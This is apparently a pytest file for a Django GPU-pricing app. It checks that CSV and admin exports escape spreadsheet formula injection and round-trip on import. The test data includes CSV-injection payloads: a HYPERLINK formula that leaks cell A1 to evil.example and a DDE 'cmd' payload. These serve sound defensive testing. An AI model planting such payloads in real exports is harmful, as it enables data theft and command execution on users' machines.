"""Every CSV export escapes spreadsheet formulas (=, +, -, @): a part or retailer named
like a formula opens as text, and the escaped file imports back unchanged."""

import csv
import io

import pytest
import tablib
from django.urls import reverse

from catalog.admin import GpuAdmin
from catalog.models import Gpu
from pricing.csv_prices import prices_csv_export, prices_csv_import
from rigrank.csvsafe import SafeCSV, escape_cell, unescape_cell
from tests.pricing.helpers import add_price, make_offer, make_part, make_retailer, seed_rates

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"]


@pytest.mark.parametrize("text", FORMULAS + ["\t=1", "\r=1"])
def test_a_formula_cell_becomes_text_and_comes_back(text):
    escaped = escape_cell(text)
    assert escaped == "'" + text
    assert unescape_cell(escaped) == text


@pytest.mark.parametrize("value", ["-5", "+1.5", "1599.99", "RTX 4090", "", "'quoted", 42])
def test_numbers_and_plain_text_are_left_alone(value):
    assert escape_cell(value) == value
    assert unescape_cell(value) == value


@pytest.fixture
def formula_shop():
    seed_rates()
    shop = make_retailer("evil-shop", domain="evil.example", scrape_enabled=False)
    shop.name = "@SUM(1+1)*cmd"
    shop.save()
    part = make_part("nvidia-rtx-4090")
    part.name = FORMULAS[0]
    part.save()
    offer = make_offer(part, shop, "https://evil.example/p/1")
    add_price(offer, "1599.99", days_ago=1)
    return offer


def test_the_price_export_escapes_formulas_and_imports_back(formula_shop):
    exported = prices_csv_export()
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    assert "'" + FORMULAS[0] in cells
    assert "'@SUM(1+1)*cmd" in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
    report = prices_csv_import(exported)
    assert (report.added, report.skipped_lines) == (1, [])


def test_the_admin_price_download_escapes_formulas(admin_client, formula_shop):
    response = admin_client.get(reverse("admin:pricing_offer_export"))
    text = b"".join(response).decode("utf-8-sig")
    assert "'@SUM(1+1)*cmd" in text
    assert ",@SUM" not in text and ",=HYPERLINK" not in text


def test_the_catalogue_export_format_escapes_formulas_and_reads_them_back():
    dataset = tablib.Dataset(headers=["slug", "name", "tdp_w"])
    dataset.append(["evil-gpu", FORMULAS[0], "-5"])
    text = SafeCSV().export_data(dataset)
    assert "'=HYPERLINK" in text and ",-5" in text
    back = SafeCSV().create_dataset(text)
    assert list(back[0]) == ["evil-gpu", FORMULAS[0], "-5"]


def test_the_admin_offers_only_escaping_formats(admin_client):
    admin = GpuAdmin(Gpu, None)
    assert {f.__name__ for f in admin.get_export_formats()} <= {"SafeCSV", "SafeTSV", "JSON"}
